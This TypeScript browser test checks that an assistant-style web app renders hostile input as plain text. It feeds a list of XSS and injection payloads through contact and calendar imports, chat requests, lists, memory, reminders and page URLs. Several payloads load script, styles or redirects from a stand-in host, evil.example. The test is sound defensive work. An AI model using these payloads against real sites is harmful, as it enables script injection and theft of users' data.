import assert from 'node:assert/strict';
import { small } from './browser.ts';
import { journey } from './walk.ts';

// After the kinds that public cheat sheets name: tags, events, addresses, encodings, templates, styles, broken markup.
const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script src=//evil.example/x.js></script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<body onpageshow=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<style>@import "//evil.example/x.css";</style>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '![x](https://evil.example/p.png)',
  '[x](javascript:alert(1))',
  "';alert(1)//",
  '\u202e\u2066<b>bidi</b>\u2069',
  '<x contenteditable onblur=alert(1)>',
  '<form action=//evil.example><button>go</button></form>',
  '<object data="data:text/html,<script>alert(1)</script>">',
  '<base href=//evil.example/>',
];
const quoted = (text: string) => JSON.stringify(text).replace(/\\u(....)/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16)));
const escaped = (text: string) => text.replace(/([\\;,])/g, '\\$1');

journey('hostile words in requests, lists, memory, names, events, files and replies stay words', {}, async (visit, house) => {
  const { page } = visit;
  const vcard = hostile.map((text, i) => `BEGIN:VCARD\r\nVERSION:4.0\r\nUID:h${i}\r\nFN:${escaped(text)}\r\nNOTE:${escaped(text)}\r\nEND:VCARD\r\n`).join('');
  const events = hostile.map((text, i) => `BEGIN:VEVENT\r\nUID:e${i}\r\nDTSTART:20260504T${String(8 + (i % 10)).padStart(2, '0')}0000Z\r\nDURATION:PT30M\r\nSUMMARY:${escaped(text)}\r\nLOCATION:${escaped(text)}\r\nEND:VEVENT\r\n`).join('');
  await house.run(['import', await house.file('hostile.vcf', vcard), await house.file('hostile.ics', `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\n${events}END:VCALENDAR\r\n`)]);
  for (const text of hostile) await visit.run_plan(`lists.add([${quoted(text)}], list="shopping")\nmemory.remember(${quoted(text)})\nreminders.add(${quoted(text)}, when=when("tomorrow at 9"))\nsay(${quoted(text)})`);
  for (const text of hostile.slice(0, 4)) await visit.ask(text);
  await page.locator('#request').fill(hostile[0]!);
  for (const place of ['talk', 'timeline', 'cards', 'rooms/lists', 'rooms/contacts', 'rooms/reminders', 'rooms/calendar?day=2026-05-04', 'rooms/calendar?day=2026-05-04&view=week', 'memory']) {
    await visit.go(place);
    await page.waitForTimeout(400);
    for (const summary of await page.locator('main summary').all()) await summary.click({ timeout: 2000 }).catch(() => {});
    const made = await page.evaluate(() => document.querySelectorAll('main :is(script, iframe, object, base, meta, link, style, math, [onerror], [onload], [srcdoc], a[href^="javascript"], img:not([src="/icon.svg"]))').length);
    assert.equal(made, 0, place);
  }
  assert.ok((await page.locator('main').textContent())!.includes(hostile[0]!));
});

journey('an address of a page cannot carry markup or a script', small, async (visit) => {
  for (const text of hostile) {
    await visit.go(`talk?say=${encodeURIComponent(text)}`);
    await visit.go(`timeline?person=${encodeURIComponent(text)}&room=${encodeURIComponent(text)}`);
    await visit.go(`timeline/${encodeURIComponent(text)}`);
    await visit.go(encodeURIComponent(text));
    await visit.page.waitForTimeout(60);
  }
  await visit.go('talk');
  await visit.page.locator('#request').waitFor();
});
